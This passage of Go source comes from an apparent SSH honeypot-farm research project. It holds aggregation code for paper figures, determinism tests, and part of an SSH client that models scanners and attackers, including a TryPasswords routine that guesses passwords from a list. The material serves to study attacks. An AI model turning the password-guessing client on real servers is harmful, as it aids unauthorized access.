// [day][pot] matrix — the visualization of Figures 3, 4, 8 and 9.
func PercentileSeries(m [][]float64) stats.Series {
	return stats.NewSeries(m)
}

// CategoryTimeline is Figure 6: per-day session counts by category plus
// the total.
type CategoryTimeline struct {
	// PerDay[d][c] is the number of category-c sessions on day d.
	PerDay [][NumCategories]int
	// Total[d] is the day's session count.
	Total []int
}

// ComputeCategoryTimeline builds Figure 6's series.
func ComputeCategoryTimeline(s *store.Store) CategoryTimeline {
	days := s.NumDays()
	tl := CategoryTimeline{
		PerDay: make([][NumCategories]int, days),
		Total:  make([]int, days),
	}
	for _, r := range s.Records() {
		d := s.Day(r.Start)
		if d < 0 || d >= days {
			continue
		}
		tl.PerDay[d][Classify(r)]++
		tl.Total[d]++
	}
	return tl
}

// DurationECDFs returns the per-category session-duration distributions
// of Figure 7, in seconds.
func DurationECDFs(s *store.Store) [NumCategories]*stats.ECDF {
	var out [NumCategories]*stats.ECDF
	for c := range out {
		out[c] = new(stats.ECDF)
	}
	for _, r := range s.Records() {
		d := r.Duration()
		if d < 0 {
			continue
		}
		out[Classify(r)].Add(d.Seconds())
	}
	for c := range out {
		out[c].Sort()
	}
	return out
}

// MedianDailySessions returns the median of the farm's daily totals
// (the paper reports ≈1.6M at full scale).
func MedianDailySessions(s *store.Store) float64 {
	tl := ComputeCategoryTimeline(s)
	e := new(stats.ECDF)
	for _, n := range tl.Total {
		e.Add(float64(n))
	}
	return e.Quantile(0.5)
}

// ObservationDays returns the day-span helper used by reports.
func ObservationDays(s *store.Store) int { return s.NumDays() }

// DayTime returns the midpoint time of a day bucket, for labeling series.
func DayTime(s *store.Store, day int) time.Time {
	return s.Epoch().Add(time.Duration(day)*24*time.Hour + 12*time.Hour)
}
