package analysis

import (
	"runtime"
	"sync"

	"honeyfarm/internal/honeypot"
)

// fanThreshold is the record count below which aggregation stays
// sequential: goroutine spawn and partial-merge overhead beats the
// scan cost for small datasets. A variable so tests can lower it and
// exercise the parallel path on toy data.
var fanThreshold = 1 << 15

// aggWorkers picks the fan-out for an n-record aggregation: one worker
// per fanThreshold-sized chunk, capped at GOMAXPROCS.
func aggWorkers(n int) int {
	if n < fanThreshold {
		return 1
	}
	w := runtime.GOMAXPROCS(0)
	if chunks := (n + fanThreshold - 1) / fanThreshold; w > chunks {
		w = chunks
	}
	if w < 1 {
		w = 1
	}
	return w
}

// mapReduce fans an aggregation out over contiguous record ranges and
// folds the partial accumulators back together. Each worker runs mapFn
// over its own range into a fresh accumulator (no shared state, no
// locks); the partials are then merged LEFT TO RIGHT in range order, so
// the result is deterministic even when mergeFn is not commutative. The
// determinism of the overall pipeline therefore rests on mapFn/mergeFn
// being pure folds — all of this package's accumulators are sums, set
// unions and min/max, and every map-keyed output is sorted before it is
// returned.
func mapReduce[A any](recs []*honeypot.SessionRecord, mapFn func([]*honeypot.SessionRecord) A, mergeFn func(dst, src A) A) A {
	w := aggWorkers(len(recs))
	if w == 1 {
		return mapFn(recs)
	}
	parts := make([]A, w)
	chunk := (len(recs) + w - 1) / w
	var wg sync.WaitGroup
	for i := 0; i < w; i++ {
		lo := i * chunk
		hi := min(lo+chunk, len(recs))
		wg.Add(1)
		go func(i, lo, hi int) {
			defer wg.Done()
			parts[i] = mapFn(recs[lo:hi])
		}(i, lo, hi)
	}
	wg.Wait()
	out := parts[0]
	for i := 1; i < w; i++ {
		out = mergeFn(out, parts[i])
	}
	return out
}

// unionInto folds src's members into dst.
func unionInto[K comparable](dst, src map[K]struct{}) {
	for k := range src {
		dst[k] = struct{}{}
	}
}
