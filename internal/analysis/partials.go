package analysis

// Mergeable partial aggregates. Each accumulator is a pure fold over
// session records — sums, set unions, min/max and bitmask-or — with a
// deterministic Finalize that sorts every map-keyed output. The batch
// functions in this package run them under mapReduce; internal/query's
// incremental engine feeds them record batches as the farm runs and
// materializes snapshots from the same Finalize calls. Because both
// paths fold the same operations and finalize identically, an
// incremental snapshot over the first N records of a stream is
// byte-identical (after JSON encoding) to the batch computation over
// those records — the equivalence the live query engine pins with a
// property test.

import (
	"sort"

	"honeyfarm/internal/geo"
	"honeyfarm/internal/honeypot"
)

// CategoryAccum accumulates Table 1's category × protocol counts.
type CategoryAccum struct {
	Counts    [NumCategories]int
	SSHCounts [NumCategories]int
	SSH       int
}

// Add folds one record in.
func (a *CategoryAccum) Add(r *honeypot.SessionRecord) {
	c := Classify(r)
	a.Counts[c]++
	if r.Protocol == honeypot.SSH {
		a.SSHCounts[c]++
		a.SSH++
	}
}

// Merge folds another accumulator in.
func (a *CategoryAccum) Merge(b *CategoryAccum) {
	for c := 0; c < int(NumCategories); c++ {
		a.Counts[c] += b.Counts[c]
		a.SSHCounts[c] += b.SSHCounts[c]
	}
	a.SSH += b.SSH
}

// Finalize renders the accumulated counts as Table 1's shares.
func (a *CategoryAccum) Finalize() CategoryShares {
	var out CategoryShares
	total := 0
	for _, n := range a.Counts {
		total += n
	}
	out.Total = total
	if total == 0 {
		return out
	}
	for c := 0; c < int(NumCategories); c++ {
		out.Overall[c] = float64(a.Counts[c]) / float64(total)
		if a.Counts[c] > 0 {
			out.SSHShareOfCategory[c] = float64(a.SSHCounts[c]) / float64(a.Counts[c])
		}
	}
	out.SSHTotal = float64(a.SSH) / float64(total)
	return out
}

// PotAccum accumulates per-honeypot totals (Figures 2, 14, 18, 19).
// IDs outside [0, numPots) are ignored.
type PotAccum struct {
	sessions []int
	clients  []map[string]struct{}
	hashes   []map[string]struct{}
}

// NewPotAccum creates an accumulator sized for numPots honeypots.
func NewPotAccum(numPots int) *PotAccum {
	a := &PotAccum{
		sessions: make([]int, numPots),
		clients:  make([]map[string]struct{}, numPots),
		hashes:   make([]map[string]struct{}, numPots),
	}
	for i := 0; i < numPots; i++ {
		a.clients[i] = make(map[string]struct{})
		a.hashes[i] = make(map[string]struct{})
	}
	return a
}

// Add folds one record in.
func (a *PotAccum) Add(r *honeypot.SessionRecord) {
	id := r.HoneypotID
	if id < 0 || id >= len(a.sessions) {
		return
	}
	a.sessions[id]++
	a.clients[id][r.ClientIP] = struct{}{}
	for _, f := range r.Files {
		a.hashes[id][f.Hash] = struct{}{}
	}
}

// Merge folds another accumulator (of the same size) in.
func (a *PotAccum) Merge(b *PotAccum) {
	for i := range a.sessions {
		a.sessions[i] += b.sessions[i]
		unionInto(a.clients[i], b.clients[i])
		unionInto(a.hashes[i], b.hashes[i])
	}
}

// Finalize renders the per-honeypot table.
func (a *PotAccum) Finalize() []PerHoneypot {
	out := make([]PerHoneypot, len(a.sessions))
	for i := range out {
		out[i] = PerHoneypot{
			Sessions: a.sessions[i],
			Clients:  len(a.clients[i]),
			Hashes:   len(a.hashes[i]),
		}
	}
	return out
}

// ClientAccum accumulates per-client-IP stats. cat restricts to one
// category (-1 for all), mirroring ComputeClientStats.
type ClientAccum struct {
	cat int
	m   map[string]*clientAcc
}

// NewClientAccum creates a client accumulator; pass cat = -1 for all
// categories.
func NewClientAccum(cat int) *ClientAccum {
	return &ClientAccum{cat: cat, m: make(map[string]*clientAcc)}
}

// Add folds one record in. day is the record's day bucket (store.Day).
func (a *ClientAccum) Add(r *honeypot.SessionRecord, day int) {
	c := Classify(r)
	if a.cat >= 0 && c != Category(a.cat) {
		return
	}
	acc := a.m[r.ClientIP]
	if acc == nil {
		acc = &clientAcc{pots: make(map[int]struct{}), days: make(map[int]struct{})}
		a.m[r.ClientIP] = acc
	}
	acc.sessions++
	acc.pots[r.HoneypotID] = struct{}{}
	acc.days[day] = struct{}{}
	acc.cats |= 1 << c
}

// Merge folds another accumulator in. The source accumulator's entries
// may be adopted by reference; do not reuse it afterwards.
func (a *ClientAccum) Merge(b *ClientAccum) {
	for ip, sa := range b.m {
		da := a.m[ip]
		if da == nil {
			a.m[ip] = sa
			continue
		}
		da.sessions += sa.sessions
		unionInto(da.pots, sa.pots)
		unionInto(da.days, sa.days)
		da.cats |= sa.cats
	}
}

// Len returns the number of distinct client IPs accumulated.
func (a *ClientAccum) Len() int { return len(a.m) }

// Finalize renders the per-client table, sorted by IP.
func (a *ClientAccum) Finalize() []ClientStat {
	out := make([]ClientStat, 0, len(a.m))
	for ip, acc := range a.m {
		out = append(out, ClientStat{
			IP: ip, Sessions: acc.sessions,
			Honeypots: len(acc.pots), ActiveDays: len(acc.days),
			Categories: acc.cats,
		})
	}
	sort.Slice(out, func(i, j int) bool { return out[i].IP < out[j].IP })
	return out
}

// CountryAccum accumulates unique client IPs per country (Figure
// 10/23). cats nil selects all categories.
type CountryAccum struct {
	reg  *geo.Registry
	cats map[Category]bool
	m    map[string]map[string]struct{}
}

// NewCountryAccum creates a country accumulator over the registry.
func NewCountryAccum(reg *geo.Registry, cats map[Category]bool) *CountryAccum {
	return &CountryAccum{reg: reg, cats: cats, m: make(map[string]map[string]struct{})}
}

// Add folds one record in; unparseable or unallocated IPs are skipped.
func (a *CountryAccum) Add(r *honeypot.SessionRecord) {
	if a.cats != nil && !a.cats[Classify(r)] {
		return
	}
	loc, ok := locate(a.reg, r.ClientIP)
	if !ok {
		return
	}
	set := a.m[loc.Country]
	if set == nil {
		set = make(map[string]struct{})
		a.m[loc.Country] = set
	}
	set[r.ClientIP] = struct{}{}
}

// Merge folds another accumulator in. The source accumulator's sets may
// be adopted by reference; do not reuse it afterwards.
func (a *CountryAccum) Merge(b *CountryAccum) {
	for country, set := range b.m {
		if d := a.m[country]; d != nil {
			unionInto(d, set)
		} else {
			a.m[country] = set
		}
	}
}

// Len returns the number of countries with at least one client.
func (a *CountryAccum) Len() int { return len(a.m) }

// Finalize renders the country table, sorted descending by client count
// with the country code as tie-break.
func (a *CountryAccum) Finalize() []CountryCount {
	out := make([]CountryCount, 0, len(a.m))
	for c, set := range a.m {
		out = append(out, CountryCount{Country: c, Clients: len(set)})
	}
	sortCountryCounts(out)
	return out
}

// HashAccum accumulates per-file-hash stats (Tables 4–6).
type HashAccum struct {
	m map[string]*hashAcc
}

// NewHashAccum creates a hash accumulator.
func NewHashAccum() *HashAccum {
	return &HashAccum{m: make(map[string]*hashAcc)}
}

// Add folds one record in. day is the record's day bucket. A session
// touching the same hash via several file events counts once per
// distinct hash, matching the batch scan.
func (a *HashAccum) Add(r *honeypot.SessionRecord, day int) {
	if len(r.Files) == 0 {
		return
	}
	seen := make(map[string]struct{}, len(r.Files))
	for _, f := range r.Files {
		if _, dup := seen[f.Hash]; dup {
			continue
		}
		seen[f.Hash] = struct{}{}
		acc := a.m[f.Hash]
		if acc == nil {
			acc = &hashAcc{
				ips:   make(map[string]struct{}),
				days:  make(map[int]struct{}),
				pots:  make(map[int]struct{}),
				first: day,
				last:  day,
			}
			a.m[f.Hash] = acc
		}
		acc.sessions++
		acc.ips[r.ClientIP] = struct{}{}
		acc.days[day] = struct{}{}
		acc.pots[r.HoneypotID] = struct{}{}
		if day < acc.first {
			acc.first = day
		}
		if day > acc.last {
			acc.last = day
		}
	}
}

// Merge folds another accumulator in. The source accumulator's entries
// may be adopted by reference; do not reuse it afterwards.
func (a *HashAccum) Merge(b *HashAccum) {
	for h, sa := range b.m {
		da := a.m[h]
		if da == nil {
			a.m[h] = sa
			continue
		}
		da.sessions += sa.sessions
		unionInto(da.ips, sa.ips)
		unionInto(da.days, sa.days)
		unionInto(da.pots, sa.pots)
		if sa.first < da.first {
			da.first = sa.first
		}
		if sa.last > da.last {
			da.last = sa.last
		}
	}
}

// Len returns the number of distinct hashes accumulated.
func (a *HashAccum) Len() int { return len(a.m) }

// Finalize renders the hash table, sorted by hash. tag may be nil (tags
// become "unknown").
func (a *HashAccum) Finalize(tag Tagger) []HashStat {
	out := make([]HashStat, 0, len(a.m))
	for h, acc := range a.m {
		hs := HashStat{
			Hash:      h,
			Sessions:  acc.sessions,
			ClientIPs: len(acc.ips),
			Days:      len(acc.days),
			Honeypots: len(acc.pots),
			FirstDay:  acc.first,
			LastDay:   acc.last,
			Tag:       "unknown",
		}
		if tag != nil {
			hs.Tag = tag(h)
		}
		out = append(out, hs)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Hash < out[j].Hash })
	return out
}
