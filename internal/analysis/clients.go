package analysis

import (
	"net/netip"

	"honeyfarm/internal/geo"
	"honeyfarm/internal/honeypot"
	"honeyfarm/internal/stats"
	"honeyfarm/internal/store"
)

// ClientStat aggregates one client IP across the dataset.
type ClientStat struct {
	IP         string
	Sessions   int
	Honeypots  int   // distinct honeypots contacted (Figure 12)
	ActiveDays int   // distinct days seen (Figure 13)
	Categories uint8 // bitmask of categories the IP appeared in
}

// HasCategory reports whether the client had a session in category c.
func (c ClientStat) HasCategory(cat Category) bool {
	return c.Categories&(1<<cat) != 0
}

// NumCategoriesSeen counts the distinct categories the IP appeared in;
// the paper reports >40% of IPs are multi-category.
func (c ClientStat) NumCategoriesSeen() int {
	n := 0
	for cat := Category(0); cat < NumCategories; cat++ {
		if c.HasCategory(cat) {
			n++
		}
	}
	return n
}

// clientAcc is one client IP's partial aggregate.
type clientAcc struct {
	sessions int
	pots     map[int]struct{}
	days     map[int]struct{}
	cats     uint8
}

// ComputeClientStats aggregates every client IP. Pass cat = -1 for all
// categories or a specific Category to restrict (for the per-category
// ECDFs of Figures 12 and 13). The scan fans out over record ranges
// into ClientAccum partials with a union/sum reduce, and the result is
// sorted by IP — the map iteration order of the old implementation
// leaked into the output and broke the determinism contract.
func ComputeClientStats(s *store.Store, cat int) []ClientStat {
	acc := mapReduce(s.Records(),
		func(recs []*honeypot.SessionRecord) *ClientAccum {
			a := NewClientAccum(cat)
			for _, r := range recs {
				a.Add(r, s.Day(r.Start))
			}
			return a
		},
		func(dst, src *ClientAccum) *ClientAccum {
			dst.Merge(src)
			return dst
		})
	return acc.Finalize()
}

// HoneypotsPerClientECDF is Figure 12: the distribution of how many
// honeypots each client contacts.
func HoneypotsPerClientECDF(clients []ClientStat) *stats.ECDF {
	e := new(stats.ECDF)
	for _, c := range clients {
		e.Add(float64(c.Honeypots))
	}
	e.Sort()
	return e
}

// ActiveDaysECDF is Figure 13: the distribution of per-client active
// days.
func ActiveDaysECDF(clients []ClientStat) *stats.ECDF {
	e := new(stats.ECDF)
	for _, c := range clients {
		e.Add(float64(c.ActiveDays))
	}
	e.Sort()
	return e
}

// MultiCategoryShare returns the fraction of client IPs active in more
// than one category (the paper: "more than 40%").
func MultiCategoryShare(clients []ClientStat) float64 {
	if len(clients) == 0 {
		return 0
	}
	multi := 0
	for _, c := range clients {
		if c.NumCategoriesSeen() > 1 {
			multi++
		}
	}
	return float64(multi) / float64(len(clients))
}

// CountryCount is one country's client population.
type CountryCount struct {
	Country string
	Clients int
}

// locate resolves a dotted-quad client IP in the registry. The bool is
// false for unparseable or unallocated addresses.
func locate(reg *geo.Registry, ip string) (geo.Location, bool) {
	a, err := netip.ParseAddr(ip)
	if err != nil {
		return geo.Location{}, false
	}
	return reg.LookupAddr(a)
}

// ClientCountries is Figure 10/23: unique client IPs per country,
// optionally restricted to a category set (nil means all). The result is
// sorted descending by count (country name as tie-break). The scan fans
// out over record ranges into CountryAccum partials; registry lookups
// are pure reads, and the per-country IP sets union in the reduce.
func ClientCountries(s *store.Store, reg *geo.Registry, cats map[Category]bool) []CountryCount {
	acc := mapReduce(s.Records(),
		func(recs []*honeypot.SessionRecord) *CountryAccum {
			a := NewCountryAccum(reg, cats)
			for _, r := range recs {
				a.Add(r)
			}
			return a
		},
		func(dst, src *CountryAccum) *CountryAccum {
			dst.Merge(src)
			return dst
		})
	return acc.Finalize()
}

func sortCountryCounts(cc []CountryCount) {
	for i := 1; i < len(cc); i++ {
		for j := i; j > 0 && (cc[j].Clients > cc[j-1].Clients ||
			(cc[j].Clients == cc[j-1].Clients && cc[j].Country < cc[j-1].Country)); j-- {
			cc[j], cc[j-1] = cc[j-1], cc[j]
		}
	}
}

// DailyUniqueClients is Figure 11: per-day unique client IPs for each
// category.
func DailyUniqueClients(s *store.Store) [][NumCategories]int {
	days := s.NumDays()
	sets := make([][NumCategories]map[string]struct{}, days)
	for d := range sets {
		for c := range sets[d] {
			sets[d][c] = make(map[string]struct{})
		}
	}
	for _, r := range s.Records() {
		d := s.Day(r.Start)
		if d < 0 || d >= days {
			continue
		}
		sets[d][Classify(r)][r.ClientIP] = struct{}{}
	}
	out := make([][NumCategories]int, days)
	for d := range sets {
		for c := range sets[d] {
			out[d][c] = len(sets[d][c])
		}
	}
	return out
}

// ComboKey identifies a combination of the three headline categories
// the paper tracks in Figure 15 (NO_CRED, FAIL_LOG, CMD) as a bitmask:
// bit 0 = NO_CRED, bit 1 = FAIL_LOG, bit 2 = CMD.
type ComboKey uint8

// ComboName renders a combo bitmask, e.g. "NO_CRED+CMD".
func (k ComboKey) String() string {
	names := []string{"NO_CRED", "FAIL_LOG", "CMD"}
	s := ""
	for i, n := range names {
		if k&(1<<i) != 0 {
			if s != "" {
				s += "+"
			}
			s += n
		}
	}
	if s == "" {
		return "none"
	}
	return s
}

// CategoryCombosDaily is Figure 15: for each day, how many client IPs
// fall into each combination of {NO_CRED, FAIL_LOG, CMD} activity on
// that same day.
func CategoryCombosDaily(s *store.Store) []map[ComboKey]int {
	days := s.NumDays()
	perDay := make([]map[string]ComboKey, days)
	for d := range perDay {
		perDay[d] = make(map[string]ComboKey)
	}
	for _, r := range s.Records() {
		d := s.Day(r.Start)
		if d < 0 || d >= days {
			continue
		}
		var bit ComboKey
		switch Classify(r) {
		case NoCred:
			bit = 1
		case FailLog:
			bit = 2
		case Cmd, CmdURI:
			bit = 4
		default:
			continue
		}
		perDay[d][r.ClientIP] |= bit
	}
	out := make([]map[ComboKey]int, days)
	for d := range perDay {
		out[d] = make(map[ComboKey]int)
		for _, k := range perDay[d] {
			out[d][k]++
		}
	}
	return out
}

// TotalComboCounts sums Figure 15 over the full period using each IP's
// all-time combo (the paper: ">700k IPs are only involved in scanning").
func TotalComboCounts(s *store.Store) map[ComboKey]int {
	perIP := make(map[string]ComboKey)
	for _, r := range s.Records() {
		var bit ComboKey
		switch Classify(r) {
		case NoCred:
			bit = 1
		case FailLog:
			bit = 2
		case Cmd, CmdURI:
			bit = 4
		default:
			continue
		}
		perIP[r.ClientIP] |= bit
	}
	out := make(map[ComboKey]int)
	for _, k := range perIP {
		out[k]++
	}
	return out
}
