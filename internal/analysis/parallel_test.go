package analysis

import (
	"fmt"
	"math/rand"
	"reflect"
	"runtime"
	"testing"

	"honeyfarm/internal/geo"
	"honeyfarm/internal/honeypot"
	"honeyfarm/internal/store"
)

// TestTopPotsByActivityTieBreak is the regression test for the unstable
// sort: with all session counts tied, the selection must come back in
// honeypot-ID order, identically on every call.
func TestTopPotsByActivityTieBreak(t *testing.T) {
	per := make([]PerHoneypot, 40)
	for i := range per {
		per[i].Sessions = 7 // all tied
	}
	want := TopPotsByActivity(per, 0.25)
	for i := 1; i < len(want); i++ {
		if want[i-1] >= want[i] {
			t.Fatalf("tied pots not in id order: %v", want)
		}
	}
	for trial := 0; trial < 20; trial++ {
		if got := TopPotsByActivity(per, 0.25); !reflect.DeepEqual(got, want) {
			t.Fatalf("trial %d: selection changed: %v vs %v", trial, got, want)
		}
	}
	// Partial ties: the count still ranks first, the id only breaks ties.
	per[3].Sessions = 50
	per[9].Sessions = 50
	got := TopPotsByActivity(per, 0.1)
	if got[0] != 3 || got[1] != 9 {
		t.Fatalf("top pots = %v, want [3 9 ...]", got)
	}
}

// synthStore builds a deterministic mixed-category store large enough to
// split into several aggregation ranges.
func synthStore(reg *geo.Registry, n int) *store.Store {
	rng := rand.New(rand.NewSource(11))
	s := store.New(epoch)
	for i := 0; i < n; i++ {
		ip := geo.Uint32ToAddr(reg.SampleClientIP(rng, -1)).String()
		m := mk{day: i % 30, pot: i % 12, ip: ip, proto: honeypot.SSH}
		switch i % 4 {
		case 0: // FAIL_LOG
			m.logins = failLogin()
		case 1: // CMD with a file
			m.logins = okLogin()
			m.commands = cmd("uname -a")
			m.files = []honeypot.FileRecord{{
				Path: "/tmp/x", Hash: fmt.Sprintf("h%03d", i%97), Op: "create", Size: 10,
			}}
		case 2: // NO_CMD
			m.logins = okLogin()
		}
		s.Add(m.rec())
	}
	return s
}

// TestParallelAggregatesMatchSequential pins the deterministic reduce:
// the fanned-out aggregations must produce exactly the sequential
// results, element for element.
func TestParallelAggregatesMatchSequential(t *testing.T) {
	reg := geo.NewRegistry(geo.Config{Seed: 3})
	s := synthStore(reg, 4000)

	prevThreshold := fanThreshold
	prevProcs := runtime.GOMAXPROCS(4) // force real fan-out even on 1 CPU
	defer func() {
		fanThreshold = prevThreshold
		runtime.GOMAXPROCS(prevProcs)
	}()

	type snapshot struct {
		perPot    []PerHoneypot
		clients   []ClientStat
		byCat     []ClientStat
		countries []CountryCount
		hashes    []HashStat
	}
	take := func() snapshot {
		return snapshot{
			perPot:    ComputePerHoneypot(s, 12),
			clients:   ComputeClientStats(s, -1),
			byCat:     ComputeClientStats(s, int(FailLog)),
			countries: ClientCountries(s, reg, nil),
			hashes:    ComputeHashStats(s, nil),
		}
	}

	fanThreshold = 1 << 30 // sequential reference
	seq := take()
	fanThreshold = 256 // ~16 ranges over 4000 records
	par := take()

	if !reflect.DeepEqual(seq.perPot, par.perPot) {
		t.Errorf("ComputePerHoneypot diverges:\nseq %+v\npar %+v", seq.perPot, par.perPot)
	}
	if !reflect.DeepEqual(seq.clients, par.clients) {
		t.Errorf("ComputeClientStats diverges (len %d vs %d)", len(seq.clients), len(par.clients))
	}
	if !reflect.DeepEqual(seq.byCat, par.byCat) {
		t.Errorf("ComputeClientStats(FailLog) diverges (len %d vs %d)", len(seq.byCat), len(par.byCat))
	}
	if !reflect.DeepEqual(seq.countries, par.countries) {
		t.Errorf("ClientCountries diverges:\nseq %+v\npar %+v", seq.countries, par.countries)
	}
	if !reflect.DeepEqual(seq.hashes, par.hashes) {
		t.Errorf("ComputeHashStats diverges (len %d vs %d)", len(seq.hashes), len(par.hashes))
	}

	// And the parallel path itself is stable call to call.
	again := take()
	if !reflect.DeepEqual(par, again) {
		t.Error("parallel aggregation is not deterministic across calls")
	}
}

// TestClientStatsSortedByIP pins the output-order fix: map iteration
// order must not leak into the result.
func TestClientStatsSortedByIP(t *testing.T) {
	s := store.New(epoch)
	for _, ip := range []string{"9.9.9.9", "1.1.1.1", "5.5.5.5", "3.3.3.3"} {
		s.Add(mk{day: 0, pot: 0, ip: ip, logins: failLogin()}.rec())
	}
	cs := ComputeClientStats(s, -1)
	for i := 1; i < len(cs); i++ {
		if cs[i-1].IP >= cs[i].IP {
			t.Fatalf("client stats not sorted by IP: %+v", cs)
		}
	}
}
