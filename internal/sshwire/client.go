package sshwire

import (
	"crypto/ed25519"
	"errors"
	"fmt"
	"net"

	"honeyfarm/internal/wire"
)

// ErrAuthFailed is returned when the server rejects all our credentials.
var ErrAuthFailed = errors.New("sshwire: authentication failed")

// ClientConfig configures an SSH client connection — the role the
// simulated attackers play against the honeypot.
type ClientConfig struct {
	User     string
	Password string
	// Version is the identification string the honeypot will record as
	// the "client SSH version" (Section 4); defaults to a libssh-like
	// string typical of scanning tools.
	Version string
	// HostKeyCallback, when set, can reject the server's ed25519 host
	// key. The default accepts any key (attackers do not verify
	// honeypots). For RSA-keyed servers use RawHostKeyCallback.
	HostKeyCallback func(key ed25519.PublicKey) error
	// RawHostKeyCallback, when set, can reject any host key by its
	// negotiated algorithm and wire-format blob.
	RawHostKeyCallback func(algo string, blob []byte) error
	// KexAlgos and HostKeyAlgos override the offered algorithm lists
	// (preference order); nil offers the full supported suite.
	KexAlgos     []string
	HostKeyAlgos []string
	// SkipAuth performs the handshake but no authentication attempt,
	// modeling NO_CRED scanners that complete the TCP+SSH handshake and
	// leave without sending credentials.
	SkipAuth bool
}

// ClientConn is an established SSH client connection.
type ClientConn struct {
	t   *transport
	mux *mux

	serverVersion string
}

// ServerVersion returns the server's identification string.
func (c *ClientConn) ServerVersion() string { return c.serverVersion }

// NewClientConn runs the client handshake over nc. If cfg.SkipAuth is
// set, the returned conn is nil and err is nil after a successful
// transport handshake; the caller is expected to close nc.
func NewClientConn(nc net.Conn, cfg *ClientConfig) (*ClientConn, error) {
	version := cfg.Version
	if version == "" {
		version = "SSH-2.0-libssh2_1.8.0"
	}
	t := newTransport(nc)
	fail := func(err error) (*ClientConn, error) {
		t.Close()
		return nil, err
	}
	if err := t.exchangeVersions(version, true); err != nil {
		return fail(err)
	}
	if err := clientKex(t, cfg); err != nil {
		return fail(err)
	}
	if cfg.SkipAuth {
		return &ClientConn{t: t, serverVersion: t.remoteVersion}, nil
	}
	if err := clientAuth(t, cfg); err != nil {
		return fail(err)
	}
	return &ClientConn{t: t, mux: newMux(t), serverVersion: t.remoteVersion}, nil
}

// checkHostKey applies the configured host-key acceptance policy.
func checkHostKey(cfg *ClientConfig, algo string, blob []byte) error {
	if cfg.RawHostKeyCallback != nil {
		if err := cfg.RawHostKeyCallback(algo, blob); err != nil {
			return err
		}
	}
	if cfg.HostKeyCallback != nil && algo == algoHostKey {
		hostKey, err := parseHostKeyBlob(blob)
		if err != nil {
			return err
		}
		return cfg.HostKeyCallback(hostKey)
	}
	return nil
}

func clientKex(t *transport, cfg *ClientConfig) error {
	clientInit := localKexInit(cfg.KexAlgos, cfg.HostKeyAlgos)
	if err := t.writePacket(clientInit.marshal()); err != nil {
		return err
	}
	payload, err := t.readPacket()
	if err != nil {
		return err
	}
	serverInit, err := parseKexInit(payload)
	if err != nil {
		return err
	}
	if err := checkNegotiation(clientInit, serverInit); err != nil {
		return err
	}
	kexAlgo, err := negotiate(clientInit.kexAlgos, serverInit.kexAlgos, "kex")
	if err != nil {
		return err
	}
	hostAlgo, err := negotiate(clientInit.hostKeyAlgos, serverInit.hostKeyAlgos, "host key")
	if err != nil {
		return err
	}

	var secret, h []byte
	switch kexAlgo {
	case algoKex, algoKexLibC:
		secret, h, err = clientKexECDH(t, cfg, hostAlgo, clientInit, serverInit)
	case algoKexDH14:
		secret, h, err = clientKexDH(t, cfg, hostAlgo, clientInit, serverInit)
	default:
		err = fmt.Errorf("sshwire: negotiated unsupported kex %q", kexAlgo)
	}
	if err != nil {
		return err
	}
	return finishKex(t, secret, h, true)
}

// clientKexECDH runs curve25519-sha256 from the client side.
func clientKexECDH(t *transport, cfg *ClientConfig, hostAlgo string, clientInit, serverInit *kexInit) (secret, h []byte, err error) {
	priv, err := generateECDH()
	if err != nil {
		return nil, nil, err
	}
	qC := priv.PublicKey().Bytes()
	b := wire.NewBuilder(64)
	b.Byte(msgKexECDHInit).String(qC)
	if err := t.writePacket(b.Bytes()); err != nil {
		return nil, nil, err
	}

	payload, err := t.readPacket()
	if err != nil {
		return nil, nil, err
	}
	if payload[0] != msgKexECDHReply {
		return nil, nil, fmt.Errorf("sshwire: expected KEX_ECDH_REPLY, got %d", payload[0])
	}
	r := wire.NewReader(payload[1:])
	hostKeyRaw := r.String()
	qS := r.String()
	sigRaw := r.String()
	if err := r.Err(); err != nil {
		return nil, nil, err
	}
	if err := checkHostKey(cfg, hostAlgo, hostKeyRaw); err != nil {
		t.sendDisconnect(disconnectHostKeyNotVerifiable, "host key rejected")
		return nil, nil, err
	}
	secret, err = ecdhShared(priv, qS)
	if err != nil {
		return nil, nil, err
	}
	h = exchangeHash(t.localVersion, t.remoteVersion, clientInit.raw, serverInit.raw, hostKeyRaw, qC, qS, secret)
	if err := verifyHostSignature(hostAlgo, hostKeyRaw, sigRaw, h); err != nil {
		t.sendDisconnect(disconnectHostKeyNotVerifiable, "signature verification failed")
		return nil, nil, err
	}
	return secret, h, nil
}

func clientAuth(t *transport, cfg *ClientConfig) error {
	b := wire.NewBuilder(32)
	b.Byte(msgServiceRequest).Text(serviceUserauth)
	if err := t.writePacket(b.Bytes()); err != nil {
		return err
	}
	payload, err := t.readPacket()
	if err != nil {
		return err
	}
	if payload[0] != msgServiceAccept {
		return fmt.Errorf("sshwire: expected SERVICE_ACCEPT, got %d", payload[0])
	}

	ab := wire.NewBuilder(128)
	ab.Byte(msgUserauthRequest).Text(cfg.User).Text(serviceConnection).
		Text("password").Bool(false).Text(cfg.Password)
	if err := t.writePacket(ab.Bytes()); err != nil {
		return err
	}
	for {
		payload, err := t.readPacket()
		if err != nil {
			return err
		}
		switch payload[0] {
		case msgUserauthSuccess:
			return nil
		case msgUserauthFailure:
			return ErrAuthFailed
		case msgUserauthBanner:
			continue
		default:
			return fmt.Errorf("sshwire: unexpected auth message %d", payload[0])
		}
	}
}

// TryPasswords attempts each password in order over a fresh userauth
// request, returning the index of the accepted password, or -1 with
// ErrAuthFailed (or a transport error, e.g. the server's 3-strike
// disconnect). The connection must have been created with SkipAuth.
func (c *ClientConn) TryPasswords(user string, passwords []string) (int, error) {
	if c.mux != nil {
		return -1, errors.New("sshwire: already authenticated")
	}
	b := wire.NewBuilder(32)
	b.Byte(msgServiceRequest).Text(serviceUserauth)
	if err := c.t.writePacket(b.Bytes()); err != nil {
		return -1, err
	}
	payload, err := c.t.readPacket()
	if err != nil {
		return -1, err
	}
	if payload[0] != msgServiceAccept {
		return -1, fmt.Errorf("sshwire: expected SERVICE_ACCEPT, got %d", payload[0])
	}
	for i, pw := range passwords {
		ab := wire.NewBuilder(128)
		ab.Byte(msgUserauthRequest).Text(user).Text(serviceConnection).
			Text("password").Bool(false).Text(pw)
		if err := c.t.writePacket(ab.Bytes()); err != nil {
			return -1, err
		}
	reply:
		for {
			payload, err := c.t.readPacket()
			if err != nil {
				return -1, err
			}
			switch payload[0] {
			case msgUserauthSuccess:
				c.mux = newMux(c.t)
				return i, nil
			case msgUserauthFailure:
				break reply
			case msgUserauthBanner:
				continue
			default:
				return -1, fmt.Errorf("sshwire: unexpected auth message %d", payload[0])
			}
		}
	}
	return -1, ErrAuthFailed
}

// OpenSession opens a session channel.
